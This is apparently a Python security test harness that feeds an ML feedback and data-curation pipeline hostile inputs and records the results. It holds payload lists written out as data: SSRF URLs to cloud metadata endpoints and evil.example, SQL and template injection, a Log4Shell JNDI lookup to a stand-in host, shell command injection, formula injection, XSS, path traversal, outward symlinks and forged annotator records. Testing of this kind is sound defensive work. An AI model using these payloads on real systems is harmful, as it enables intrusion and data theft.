"""A small whole turn over logs and answers that mean harm: addresses, paths, SQL, templates, markup, formulas, links that lead out.

    umask 022; LD_PRELOAD=dialled.so DIALLED=log python -m tests.hostile FOLDER   ->   FOLDER/work, FOLDER/told.json

Everything real but the training: received over OTLP, captured, mined, sent, reviewed, taken in, frozen, curated, built, published,
registered, exported and served. What came of it is for tests/test_security.py to look at.
"""

from __future__ import annotations

import json
import os
import sys
import time
from contextlib import suppress
from dataclasses import asdict
from pathlib import Path
from typing import Any

from starlette.testclient import TestClient

from tasks.errors import Refused
from tasks.exports.dialects import DIALECTS
from tasks.live import receiver, snapshot
from tasks.live.capture import capture
from tasks.live.export import export
from tasks.live.handoff.follow_up import follow_up
from tasks.live.handoff.receive import receive
from tasks.live.handoff.send import send
from tasks.live.mining import mine
from tasks.live.repository import dvc
from tasks.live.review import app as review
from tasks.live.serving import app as serving
from tasks.live.workspace import Workspace, quiet_environment
from tasks.records import content_id, write_jsonl
from tests.handmade import CATALOGUE, TEXT, asked, chat_span, log, said, traces
from tests.imports import ROOT
from tests.lived import published
from tests.sendable import PEOPLE, change

URLS = (
    "http://169.254.169.254/latest/meta-data/iam/", "http://metadata.google.internal/computeMetadata/v1/",
    "https://evil.example/go?to=http://127.0.0.1:8080/admin", "file:///etc/passwd", "gopher://evil.example:70/_x",
    "//evil.example/x.js", "http://[::1]:6379/", "s3://evil-bucket/x", "http://0x7f000001/", r"\\evil.example\share\x",
    "hf://datasets/evil/x", "git+ssh://evil.example/x.git",
)  # fmt: skip
CODE = (
    "'; DROP TABLE interactions; --", '" OR ""="', "') UNION SELECT 1; --", "\\'; --", "/* */ ; PRAGMA database_list; --",
    "$1 ?1 :id $id", "{batch} {table} {id}", "{{7*7}} {% raw %}", "${jndi:ldap://evil.example/x}", "$(touch PWNED) `touch PWNED`",
    "; touch PWNED ;", "| touch PWNED", "%s %(name)s {0.__class__} {x!r}", "__class__.__init__.__globals__", "=cmd|' /C calc'!A0",
    "+1+1", "-2+3", "@SUM(1)", "read_csv('/etc/passwd')", "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
)  # fmt: skip
PATHS = (
    "../../../escaped", "/tmp/escaped", "C:\\escaped", "..\\..\\escaped", "escaped\0.txt", "~/escaped", "a/../../../escaped", ".",
    "..", "%2e%2e%2fescaped", "-rf", "x" * 300, "escaped\n.txt", "con", "data/raw/escaped",
)  # fmt: skip
OUTSIDE = "what stands outside of the workspace"
TOKEN_NAME = "FLYWHEEL_SERVE_TOKEN"
LOCAL = "http://127.0.0.1"
N = 64


def question(k: int) -> str:
    """No two near-duplicates, and each with something that means harm."""
    return f"number {k} about {content_id('about', k)[6:]}: {harm(k)}"


def harm(k: int) -> str:
    everything = CODE + URLS
    return everything[k % len(everything)]


def path(k: int) -> str:
    return PATHS[k % len(PATHS)]


def interactions() -> list[dict[str, Any]]:
    """Each text, id, name and tag of them is a harm."""
    made = []
    for k in range(N):
        url = URLS[k % len(URLS)]
        made.append(
            asked(
                f"{path(k)}{k}", session_id=f"{path(k)}{k // 2}", user_id=f"user-{k % 9}", tenant=harm(k) if k % 5 == 0 else "",
                messages=[{"role": "user", "content": question(k)}], response=TEXT["refund"] if k % 2 else harm(k),
                contexts=[{"id": path(k), "text": f"{harm(k)} {url}", "url": url, "score": 0.5}],
                time=f"2026-01-05T{8 + k // 60:02d}:{k % 60:02d}:00Z", prompt_name=path(k), model_served=path(k + 1),
                tags=[path(k), harm(k)], params={"webhook": url, "callback": url},
                tools=[{"type": "function", "function": {"name": "f", "parameters": {"$ref": url}}}],
                attributes={path(k): url, "__class__": harm(k), "http.url": url},
            )
        )  # fmt: skip
    return made


def with_pictures() -> list[dict[str, Any]]:
    """Requests as a gateway logs them, with pictures that lie somewhere."""
    made = []
    for k, url in enumerate(URLS):
        content = [{"type": "text", "text": f"what is on picture {k}?"}, {"type": "image_url", "image_url": {"url": url}}]
        said_ = {"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": f"![{k}]({url})"}}
        made.append(
            {
                "request": {"model": path(k), "messages": [{"role": "user", "content": content}]},
                "response": {
                    "id": f"cmpl-{k}", "object": "chat.completion", "created": 1767614400 + k, "model": path(k), "choices": [said_],
                },
            }
        )  # fmt: skip
    return made


def main(root: Path) -> None:
    told: dict[str, Any] = {}
    os.environ["PATH"] = f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"
    quiet_environment()
    approved = root / "approved.jsonl"
    write_jsonl(approved, CATALOGUE)
    place = snapshot.init(root / "work", ROOT, approved, None, with_uncommitted=True)
    with dvc(place) as repo, repo.config.edit("repo") as config:
        config["remote"]["backup"] = {"url": str(root / "backup")}
    smaller = {"budget: 300": "budget: 24", "audit_holdout: 90": "audit_holdout: 8", "audit_open: 60": "audit_open: 8"}
    smaller |= {'["answer: 1", "action: 0.1", "relevance: 0.1"]': '["answer: 1", "note: 1"]'}
    smaller |= {"audit_share: 0.05": "audit_share: 0.0", "gold_share: 0.07": "gold_share: 0.0"}
    change(place, smaller | {"min_window: 50": "min_window: 20"})
    write_jsonl(place.data / "annotators.jsonl", PEOPLE)
    links_out(place, root / "outside")
    over_otlp(place)
    logs = interactions()
    log(place.inbox / "$(touch PWNED); -rf '.jsonl", *logs[: N // 2])
    log(place.inbox / "%s {0} \n escaped.jsonl", *logs[N // 2 :])
    log(place.inbox / "pictures.jsonl", *with_pictures())
    comments = [said(f"{path(k)}-f{k}", f"{path(k)}{k}", comment=f"{harm(k)} {URLS[k % 12]}") for k in range(20)]
    log(place.inbox / "say.jsonl", *comments)
    told["captured"] = capture(place).as_dict()
    told["mined"] = mine(place).signals
    batch = send(place)
    told["review"] = on_the_page(place)
    answers(place, Path(batch.folder))
    told["received"] = receive(place).as_dict()
    follow_up(place)
    told["tag"] = published(place)
    told["exported"] = exported(place)
    told["served"] = served(place)
    (root / "told.json").write_text(json.dumps(told), encoding="utf-8")


def links_out(place: Workspace, outside: Path) -> None:
    """Links where logs, answers and the spool lie; what they lead to is not ours to read or to cut."""
    outside.mkdir()
    log(outside / "log.jsonl", asked("outside", response=OUTSIDE), b'{"half')
    (outside / "log.jsonl").write_bytes((outside / "log.jsonl").read_bytes().rstrip(b"\n"))
    place.spool.mkdir(parents=True, exist_ok=True)
    for folder in (place.inbox, place.answers, place.spool):
        (folder / "1.jsonl").symlink_to(outside / "log.jsonl")
        (folder / "2.csv").symlink_to(outside / "log.jsonl")
        (folder / "3.open").symlink_to(outside / "log.jsonl")
        (folder / "deep").symlink_to(outside, target_is_directory=True)


def over_otlp(place: Workspace) -> None:
    spans = [
        chat_span(
            f"{k:04x}", traceId=f"{k + 1:032x}",
            attributes={"gen_ai.conversation.id": path(k), harm(k): harm(k), "url.full": URLS[k % len(URLS)], "__proto__": harm(k)},
        )
        for k in range(12)
    ]  # fmt: skip
    with TestClient(receiver.application(place), base_url=LOCAL) as client:
        assert client.post("/v1/traces", json=traces(*spans)).status_code == 200


def on_the_page(place: Workspace) -> list[str]:
    """The questions as the page is given them."""
    with TestClient(review.application(place), base_url=LOCAL, headers={"sec-fetch-site": "same-origin"}) as client:
        invited = review.Roster(place, False)
        client.cookies.set(review.SESSION, invited.session(review.Person("cleo", "annotator"), time.time()))
        first = client.post("/api/next", json={}).json()["screen"]
        return [json.dumps(first)]


def answers(place: Workspace, folder: Path) -> None:
    """What people answered, and what somebody forged."""
    rows = [json.loads(x) for x in (folder / "batch.jsonl").read_bytes().splitlines()]
    for who in ("ana", "ben"):
        given = []
        for n, row in enumerate(rows):
            value = {"verdict": "wrong", "correction": "invoice"} if n % 3 else {"verdict": "right"}
            if row["kind"] == "note":
                value = {"note": harm(n)}
            given.append(
                {name: row[name] for name in ("batch_id", "candidate_id", "kind", "content_hash", "guideline")}
                | {"annotator": who, "time": "2026-01-06T09:00:00Z", "note": f"{harm(n)} {URLS[n % 12]}", "value": value}
            )
        log(place.answers / f"{who} $(touch PWNED) ..jsonl", *given)
    forged = []
    for n, name in enumerate(PATHS + CODE):
        row = rows[n % len(rows)]
        whole = {k: row[k] for k in ("batch_id", "candidate_id", "kind", "content_hash", "guideline")}
        whole |= {"annotator": "eve", "time": "2026-01-06T09:00:00Z", "value": {"verdict": "right"}}
        forged += [whole | {field: name} for field in ("annotator", "batch_id", "candidate_id", "kind", "guideline", "time")]
    log(place.answers / "forged.jsonl", *forged)


def exported(place: Workspace) -> dict[str, Any]:
    made: dict[str, Any] = {}
    for name in DIALECTS:
        with suppress(Refused):  # a dialect of which the snapshot has no row
            made[name] = asdict(export(place, name))["written"]
    return made


def served(place: Workspace) -> int:
    """Questions and feedback full of addresses, answered by the champion."""
    headers = {"authorization": f"Bearer {os.environ[TOKEN_NAME]}"}
    answered = 0
    with TestClient(serving.application(place, os.environ[TOKEN_NAME]), base_url=LOCAL, headers=headers) as client:
        for _ in range(600):
            if client.get("/healthz").status_code == 200:
                break
            time.sleep(0.1)
        for k in range(12):
            messages = [{"role": "user", "content": [{"type": "text", "text": question(k)}]}]
            body = {"model": "champion", "messages": messages, "user": path(k), "metadata": {"hook": URLS[k]}}
            answer = client.post("/v1/chat/completions", json=body)
            answered += answer.status_code == 200
            response = answer.json().get("id", "")
            client.post("/v1/feedback", json={"response_id": response, "name": "thumb", "value": False, "comment": URLS[k]})
    return answered


if __name__ == "__main__":
    main(Path(sys.argv[1]))
